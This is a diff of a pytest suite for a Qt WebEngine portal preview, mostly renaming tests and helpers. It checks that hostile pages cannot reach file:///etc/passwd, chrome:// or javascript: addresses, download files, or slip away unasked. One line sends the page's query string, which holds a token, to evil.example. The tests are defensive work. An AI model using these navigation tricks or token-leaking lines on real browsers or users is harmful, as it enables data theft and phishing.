@@ -1,11 +1,11 @@
-"""Ways out of the portal: refused, or asked about in place."""
+"""Ways to leave the portal: each is refused, or the user is asked in place."""
 
 from __future__ import annotations
 
 import pytest
 from PySide6.QtWebEngineCore import QWebEngineDownloadRequest
 
-from tests.support.hostile_kit import EVERYWHERE, PATH
+from tests.support.hostile_kit import FULL_PAGE, PATH
 from tests.support.page_server import Answer
 from tests.support.preview_kit import ENGINE_NOISE, TOKEN, press, says, visible_texts
 
@@ -13,7 +13,7 @@ pytestmark = pytest.mark.qt_log_ignore(*ENGINE_NOISE)
 
 MIXED = "https://xn--pple-43d.example/in?x=1"
 
-# What the page goes to, and what the notice calls it.
+# Where the page tries to go, and how the notice calls it.
 REFUSED = {
     "file:///etc/passwd": "a “file:” address",
     "chrome://version": "a “chrome:” address",
@@ -38,8 +38,8 @@ REFUSED = {
 
 
 @pytest.mark.parametrize("address", REFUSED)
-@pytest.mark.parametrize("how", ["location", "link", "frame", "refresh"])
-def test_the_page_does_not_get_to(hostile, address, how):
+@pytest.mark.parametrize("way", ["location", "link", "frame", "refresh"])
+def test_the_page_does_not_get_to(hostile, address, way):
     act = {
         "location": f"location.href = '{address}'",
         "link": f"Object.assign(document.createElement('a'), {{href: '{address}'}}).click()",
@@ -47,20 +47,20 @@ def test_the_page_does_not_get_to(hostile, address, how):
         f"frame.src = '{address}'; document.body.append(frame)",
         "refresh": "document.head.insertAdjacentHTML('beforeend',"
         f"`<meta http-equiv=refresh content='0;url={address}'>`)",
-    }[how]
-    hostile.open(f"onClick(() => {{ {act}; tell('tried', true) }})")
+    }[way]
+    hostile.open(f"onClick(() => {{ {act}; report('tried', true) }})")
     hostile.click()
-    hostile.told("tried")
-    hostile.noticed(f"tried to open {REFUSED[address]}.")
+    hostile.report("tried")
+    hostile.expect_notice(f"tried to open {REFUSED[address]}.")
     assert hostile.is_still_the_portal()
 
 
-def test_a_script_address_runs_nowhere_else(hostile):
+def test_a_script_address_runs_only_in_its_own_page(hostile):
     hostile.open(
-        "onClick(() => { location.href = `javascript:tell('ran on', location.pathname)` })"
+        "onClick(() => { location.href = `javascript:report('ran on', location.pathname)` })"
     )
     hostile.click()
-    assert hostile.told("ran on") == PATH
+    assert hostile.report("ran on") == PATH
 
 
 @pytest.mark.parametrize(
@@ -71,37 +71,37 @@ def test_a_script_address_runs_nowhere_else(hostile):
     ],
     ids=["data", "blob"],
 )
-def test_the_page_does_not_become_one_of_its_own_making(hostile, make):
-    hostile.open(f"onClick(() => {{ location.href = {make}; tell('tried', true) }})")
+def test_the_page_does_not_replace_itself_by_content_of_its_own(hostile, make):
+    hostile.open(f"onClick(() => {{ location.href = {make}; report('tried', true) }})")
     hostile.click()
-    hostile.told("tried")
+    hostile.report("tried")
     hostile.run("1")
     assert hostile.is_still_the_portal()
 
 
-def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
+def test_leaving_asks_in_place_and_staying_stays(hostile, expect_question):
     leave = "location.href = 'https://evil.example/?t=1'"
     hostile.open(f"addEventListener('click', () => {{ {leave} }})")
-    hostile.run(f"setTimeout(() => {{ {leave} }})")
-    asks("wants to go to evil.example.")
+    hostile.run(f"({leave}, 1)")
+    expect_question("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     hostile.run(f"({leave}, 1)")
     hostile.run("1")
     assert not says(hostile.pane, "wants to go to")
     hostile.click()
-    asks("wants to go to evil.example.")
+    expect_question("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     assert hostile.is_still_the_portal()
 
 
-def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
+def test_the_page_can_not_replace_an_open_question(hostile, expect_question):
     hostile.open("")
-    hostile.run("setTimeout(() => { location.href = 'https://harmless.example/' })")
-    asks("harmless.example")
+    hostile.run("(location.href = 'https://harmless.example/', 1)")
+    expect_question("harmless.example")
     hostile.run("(location.href = 'https://evil.example/', 1)")
     hostile.run("1")
     press(hostile.pane, "Open in system browser")
-    assert [link.reveal() for link in hostile.heard.external] == ["https://harmless.example/"]
+    assert [link.reveal() for link in hostile.signals.external] == ["https://harmless.example/"]
 
 
 @pytest.mark.parametrize(
@@ -112,7 +112,7 @@ def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
             "onClick(() => document.forms[0].submit())",
             "<form method=post action='{to}'><input name=a></form>",
         ),
-        ("", "<a {everywhere} href='{to}'>Sign in</a>"),
+        ("", "<a {full_page} href='{to}'>Sign in</a>"),
         ("onClick(() => location.replace('{to}'))", ""),
         ("onClick(() => navigation.navigate('{to}'))", ""),
         (
@@ -125,15 +125,15 @@ def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
     ],
     ids=["form", "post", "link", "replace", "navigation", "frame"],
 )
-def test_every_way_to_another_host_asks(hostile, asks, script, body):
+def test_every_way_to_another_host_asks(hostile, expect_question, script, body):
     to = "https://evil.example/in"
-    hostile.open(script.format(to=to), body.format(to=to, everywhere=EVERYWHERE))
+    hostile.open(script.format(to=to), body.format(to=to, full_page=FULL_PAGE))
     hostile.click()
-    asks("wants to go to evil.example.")
+    expect_question("wants to go to evil.example.")
     assert hostile.is_still_the_portal()
 
 
-def test_a_sandboxed_frame_of_others_does_not_even_ask(hostile):
+def test_a_sandboxed_frame_does_not_make_the_preview_ask(hostile):
     hostile.open(
         "",
         "<iframe sandbox='allow-scripts' srcdoc=\"<script>top.location = 'https://evil.example/'"
@@ -162,46 +162,46 @@ def test_a_sandboxed_frame_of_others_does_not_even_ask(hostile):
     ],
     ids=["mixed", "whole", "right to left", "long", "name before", "not encrypted"],
 )
-def test_the_question_names_the_host_as_it_is(hostile, asks, address, words):
-    hostile.open("")  # a page that leaves before it is painted is refused without a question
-    hostile.run(f"setTimeout(() => {{ location.href = '{address}' }})")
-    asks(words)
+def test_the_question_names_the_real_host(hostile, expect_question, address, words):
+    hostile.open("")
+    hostile.run(f"(location.href = '{address}', 1)")
+    expect_question(words)
     assert hostile.is_still_the_portal()
 
 
-def test_the_system_browser_gets_the_place_that_was_asked_about(hostile, asks):
-    hostile.open("", f"<a {EVERYWHERE} href='{MIXED}'>Sign in</a>")
+def test_the_system_browser_gets_the_address_of_the_question(hostile, expect_question):
+    hostile.open("", f"<a {FULL_PAGE} href='{MIXED}'>Sign in</a>")
     hostile.click()
-    asks("Names that mix alphabets often imitate another.")
+    expect_question("Names that mix alphabets often imitate another.")
     press(hostile.pane, "Open in system browser")
-    assert [link.reveal() for link in hostile.heard.external] == [MIXED]
+    assert [link.reveal() for link in hostile.signals.external] == [MIXED]
 
 
 @pytest.mark.parametrize(
     "to", ["https://evil.example/", "http://192.168.0.1/", "file:///etc/passwd"]
 )
-def test_a_redirect_at_the_start_is_stopped_and_told(hostile, to):
+def test_a_redirect_at_the_start_is_stopped(hostile, to):
     hostile.site.pages[PATH] = Answer(status=302, headers={"Location": to})
     hostile.show(hostile.site.url(PATH))
-    hostile.until(lambda: hostile.heard.failed != [])
-    ((_, kind),) = hostile.heard.failed
+    hostile.until(lambda: hostile.signals.failed != [])
+    ((_, kind),) = hostile.signals.failed
     assert kind in {"blocked", "connection"}
 
 
-def test_a_page_that_leaves_at_once_is_told(hostile):
+def test_a_page_that_leaves_at_once_is_stopped(hostile):
     hostile.show(hostile.write("location.href = 'https://evil.example/'"))
-    hostile.until(lambda: hostile.heard.failed == [("portal-1", "blocked")])
+    hostile.until(lambda: hostile.signals.failed == [("portal-1", "blocked")])
     assert says(hostile.pane, "The link leads somewhere else")
 
 
 def test_a_page_that_blanks_itself_is_not_shown_as_the_portal(hostile):
     hostile.open("onClick(() => { location.href = 'about:blank' })")
     hostile.click()
-    hostile.until(lambda: hostile.heard.failed == [("portal-1", "not_a_page")])
+    hostile.until(lambda: hostile.signals.failed == [("portal-1", "not_a_page")])
 
 
 @pytest.mark.parametrize(
-    "offer",
+    "act",
     [
         "Object.assign(document.createElement('a'), {download: 'x', href: 'data:,x'}).click()",
         (
@@ -213,15 +213,15 @@ def test_a_page_that_blanks_itself_is_not_shown_as_the_portal(hostile):
     ],
     ids=["data", "blob", "page", "frame"],
 )
-def test_nothing_is_downloaded(hostile, offer, tmp_path):
+def test_nothing_is_downloaded(hostile, act, tmp_path):
     hostile.site.pages["/file"] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
-    hostile.open(f"onClick(() => {{ for (let i = 0; i < 5; i++) {{ {offer} }} }})")
+    hostile.open(f"onClick(() => {{ for (let i = 0; i < 5; i++) {{ {act} }} }})")
     profile = hostile.web.widget.page().profile()
     profile.setDownloadPath(str(tmp_path))
     downloads = []
     profile.downloadRequested.connect(downloads.append)
     hostile.click()
-    hostile.noticed("offered a file to download")
+    hostile.expect_notice("offered a file to download")
     assert hostile.is_still_the_portal()
     cancelled = QWebEngineDownloadRequest.DownloadState.DownloadCancelled
     # More of them may come while the first are being cancelled.
@@ -232,17 +232,17 @@ def test_nothing_is_downloaded(hostile, offer, tmp_path):
 def test_a_link_that_is_a_file_is_no_page(hostile):
     hostile.site.pages[PATH] = Answer(headers={"Content-Disposition": "attachment; filename=x"})
     hostile.show(hostile.site.url(PATH))
-    hostile.until(lambda: hostile.heard.failed == [("portal-1", "not_a_page")])
+    hostile.until(lambda: hostile.signals.failed == [("portal-1", "not_a_page")])
 
 
-def test_the_questions_words_are_all_that_is_shown_of_the_link(hostile, asks):
+def test_the_question_does_not_show_the_token(hostile, expect_question):
     hostile.open("")
-    hostile.run("setTimeout(() => { location.href = 'https://evil.example/' + location.search })")
-    asks("evil.example")
+    hostile.run("(location.href = 'https://evil.example/' + location.search, 1)")
+    expect_question("evil.example")
     assert not any("token" in text for text in visible_texts(hostile.pane))
 
 
-def test_what_the_page_logs_never_reaches_our_log(hostile, caplog, capfd, qtlog):
+def test_the_pages_log_never_reaches_our_log(hostile, caplog, capfd, qtlog):
     hostile.open("console.error(location.href); console.log(location.search)")
     hostile.run("(console.warn(location.href), 1)")
     messages = [record.message for record in qtlog.records]
